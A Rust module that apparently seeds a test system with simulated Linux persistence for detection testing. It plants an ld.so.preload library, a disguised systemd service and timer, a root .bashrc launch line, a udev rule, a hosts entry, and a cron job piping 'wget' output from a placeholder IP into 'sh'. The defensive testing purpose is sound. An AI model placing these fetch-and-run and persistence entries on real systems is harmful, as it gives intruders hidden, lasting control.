//! Ways the intruder comes back after a restart.

use super::plant::Plant;
use crate::error::Result;

/// The hidden program that several of them start.
pub(super) const DAEMON: &str = "/usr/lib/.dbus/dbusd";

pub(super) fn plant(plant: &Plant<'_>) -> Result<()> {
    // T1574.006: a library preloaded into every program.
    plant.file("/usr/lib/x86_64-linux-gnu/libnss_cachev2.so.2", 0o755, 400, plant.canary)?;
    plant.file(
        "/etc/ld.so.preload",
        0o644,
        401,
        b"/usr/lib/x86_64-linux-gnu/libnss_cachev2.so.2\n",
    )?;
    // T1053.003: a job that fetches and runs.
    plant.file(
        "/etc/cron.d/sysstat-update",
        0o644,
        420,
        b"PATH=/usr/bin:/bin\n*/7 * * * * root wget -qO- http://198.51.100.23/u | sh\n",
    )?;
    // T1543.002 and T1053.006: a unit and a timer no package owns.
    let service = format!(
        "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart={DAEMON} --system\nRestart=always\n\
         [Install]\nWantedBy=multi-user.target\n"
    );
    plant.file("/etc/systemd/system/dbus-helper.service", 0o644, 430, service.as_bytes())?;
    plant.link(
        "/etc/systemd/system/multi-user.target.wants/dbus-helper.service",
        "/etc/systemd/system/dbus-helper.service",
    )?;
    plant.file(
        "/etc/systemd/system/dbus-helper.timer",
        0o644,
        431,
        b"[Unit]\nDescription=D-Bus helper\n[Timer]\nOnCalendar=*:0/10\n[Install]\nWantedBy=timers.target\n",
    )?;
    plant.link(
        "/etc/systemd/system/timers.target.wants/dbus-helper.timer",
        "/etc/systemd/system/dbus-helper.timer",
    )?;
    // T1546.004: a line in root's shell start-up.
    plant.append("/root/.bashrc", 440, &format!("({DAEMON} >/dev/null 2>&1 &)\n"))?;
    // T1546.017: started by a device event.
    plant.file(
        "/etc/udev/rules.d/75-net-description.rules",
        0o644,
        450,
        format!("SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"{DAEMON}\"\n").as_bytes(),
    )?;
    // T1565.001: a name turned away.
    plant.append("/etc/hosts", 460, "0.0.0.0 updates.example.org\n")
}
